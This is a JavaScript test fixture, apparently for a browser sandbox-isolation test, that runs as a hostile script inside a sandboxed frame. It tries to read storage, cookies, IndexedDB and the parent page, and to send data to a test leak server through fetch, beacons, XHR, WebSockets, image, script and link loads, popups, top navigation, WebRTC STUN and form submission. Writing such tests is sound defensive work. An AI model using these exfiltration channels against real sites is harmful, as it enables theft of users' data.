// Attacker code for tests/browser/sandbox-isolation-js.test.ts, run as the sandbox FRAME's own script
// (the real sandbox frame html with its inline script replaced by this one). In the real sandbox
// no environment code runs here (the frame only runs its fixed start-up script); this shows what
// the frame's origin and CSP would allow if it did: window-only APIs such as localStorage,
// document.cookie, sendBeacon, images, popups, forms and WebRTC. The page prepends
// `const CONFIG = {...};`. Reports with parent.postMessage({ spadeFrameAttack }).
/* global CONFIG */
'use strict';

(async () => {
  const results = {};
  const violations = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
  });

  const describeError = (error) =>
    error && typeof error === 'object' && 'name' in error ? `${error.name}: ${error.message}` : String(error);

  const withTimeout = (promise, ms) =>
    new Promise((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`timeout: no outcome within ${ms} ms`)), ms);
      promise.then(
        (value) => {
          clearTimeout(timer);
          resolve(value);
        },
        (error) => {
          clearTimeout(timer);
          reject(error);
        },
      );
    });

  async function attempt(name, run, ms = CONFIG.attemptTimeoutMs) {
    try {
      const value = await withTimeout(Promise.resolve().then(run), ms);
      results[name] = { ok: true, value: value === undefined ? null : value };
    } catch (error) {
      results[name] = { ok: false, error: describeError(error) };
    }
  }

  const leakUrl = (kind, data) => `${CONFIG.leakOrigin}/leak/${CONFIG.tag}/${kind}?data=${encodeURIComponent(data)}`;

  const loadElement = (element) =>
    new Promise((resolve, reject) => {
      element.addEventListener('load', () => resolve('loaded'), { once: true });
      element.addEventListener('error', () => reject(new Error('error event')), { once: true });
    });

  await attempt('self.origin', () => self.origin);
  await attempt('document.domain', () => document.domain);
  await attempt('localStorage', () => window.localStorage.getItem(CONFIG.localStorageKey));
  await attempt('localStorage write pwned', () => {
    window.localStorage.setItem('pwned', 'pwned by attacker');
    return 'written';
  });
  await attempt('sessionStorage', () => window.sessionStorage.length);
  await attempt('document.cookie read', () => document.cookie);
  await attempt('document.cookie write', () => {
    document.cookie = 'pwned=1';
    return document.cookie;
  });
  await attempt(
    'indexedDB.open(app db)',
    () =>
      new Promise((resolve, reject) => {
        const request = indexedDB.open(CONFIG.dbName);
        request.onerror = () => reject(request.error);
        request.onsuccess = () => {
          const stores = [...request.result.objectStoreNames];
          request.result.close();
          resolve({ stores });
        };
      }),
  );
  await attempt('caches.keys()', () => caches.keys());
  await attempt('OPFS navigator.storage.getDirectory()', async () => {
    const dir = await navigator.storage.getDirectory();
    const names = [];
    for await (const name of dir.keys()) names.push(name);
    return names;
  });
  await attempt('parent.document', () => parent.document.title);
  await attempt('parent.localStorage', () => parent.localStorage.getItem(CONFIG.localStorageKey));
  await attempt('parent.spadeTest', () => typeof parent.spadeTest);
  await attempt('top.location.href read', () => top.location.href);

  const stolen = 'nothing';
  await Promise.all([
    attempt('fetch(leak server)', async () => `status ${(await fetch(leakUrl('frame-fetch', stolen))).status}`),
    attempt(
      'fetch(app origin)',
      async () => `status ${(await fetch(`${CONFIG.appOrigin}/__leak/${CONFIG.tag}/frame-fetch-app`)).status}`,
    ),
    attempt('navigator.sendBeacon', () => navigator.sendBeacon(leakUrl('frame-beacon', stolen), stolen)),
    attempt(
      'XMLHttpRequest',
      () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.open('GET', leakUrl('frame-xhr', stolen));
          request.onload = () => resolve(`status ${request.status}`);
          request.onerror = () => reject(new Error('error event'));
          request.send();
        }),
    ),
    attempt(
      'WebSocket',
      () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(
            `${CONFIG.leakOrigin.replace(/^http/, 'ws')}/leak/${CONFIG.tag}/frame-websocket`,
          );
          socket.onopen = () => resolve('open');
          socket.onerror = () => reject(new Error('error event'));
        }),
    ),
    attempt(
      'EventSource',
      () =>
        new Promise((resolve, reject) => {
          const source = new EventSource(leakUrl('frame-eventsource', stolen));
          source.onopen = () => resolve('open');
          source.onerror = () => {
            source.close();
            reject(new Error('error event'));
          };
        }),
    ),
    attempt('<img src=leak>', () => {
      const image = new Image();
      const done = loadElement(image);
      image.src = leakUrl('frame-img', stolen);
      return done;
    }),
    attempt('<script src=leak>', () => {
      const script = document.createElement('script');
      const done = loadElement(script);
      script.src = leakUrl('frame-script.js', stolen);
      document.head.append(script);
      return done;
    }),
    attempt('<link rel=stylesheet href=leak>', () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      const done = loadElement(link);
      link.href = leakUrl('frame-style.css', stolen);
      document.head.append(link);
      return done;
    }),
    attempt('<link rel=prefetch href=leak>', () => {
      const link = document.createElement('link');
      link.rel = 'prefetch';
      const done = loadElement(link);
      link.href = leakUrl('frame-prefetch', stolen);
      document.head.append(link);
      return done;
    }),
    attempt('nested <iframe src=leak>', () => {
      const frame = document.createElement('iframe');
      const done = loadElement(frame);
      frame.src = leakUrl('frame-iframe', stolen);
      document.body.append(frame);
      return done.then(() => {
        // A blocked frame load still fires load (on an error page); only the leak server can tell.
        try {
          return `loaded ${frame.contentWindow.location.href}`;
        } catch (error) {
          return `loaded, cross-origin (${describeError(error)})`;
        }
      });
    }),
    attempt('window.open(leak)', () => {
      const opened = window.open(leakUrl('frame-popup', stolen));
      if (!opened) throw new Error('window.open returned null');
      return 'opened';
    }),
    attempt('top.location = leak', () => {
      top.location.href = leakUrl('frame-top-navigation', stolen);
      return 'assigned';
    }),
    attempt('RTCPeerConnection STUN to leak host', async () => {
      if (typeof RTCPeerConnection !== 'function') throw new TypeError('RTCPeerConnection is not defined');
      const host = CONFIG.leakOrigin.replace(/^https?:\/\//, '');
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
      const candidates = [];
      connection.onicecandidate = (event) => {
        if (event.candidate) candidates.push(event.candidate.type);
      };
      connection.createDataChannel('leak');
      await connection.setLocalDescription(await connection.createOffer());
      await new Promise((resolve) => {
        connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve();
        setTimeout(resolve, CONFIG.attemptTimeoutMs - 500);
      });
      connection.close();
      return { candidateTypes: candidates, note: 'CSP does not govern WebRTC; the test side counts STUN packets' };
    }),
  ]);

  parent.postMessage(
    { spadeFrameAttack: { results, stolen, violations, broadcastReceivedByAttacker: [], boot: null } },
    '*',
  );

  // Last, as it would replace this document if it were allowed: a form submission.
  const form = document.createElement('form');
  form.method = 'GET';
  form.action = leakUrl('frame-form', stolen);
  document.body.append(form);
  form.submit();
})();
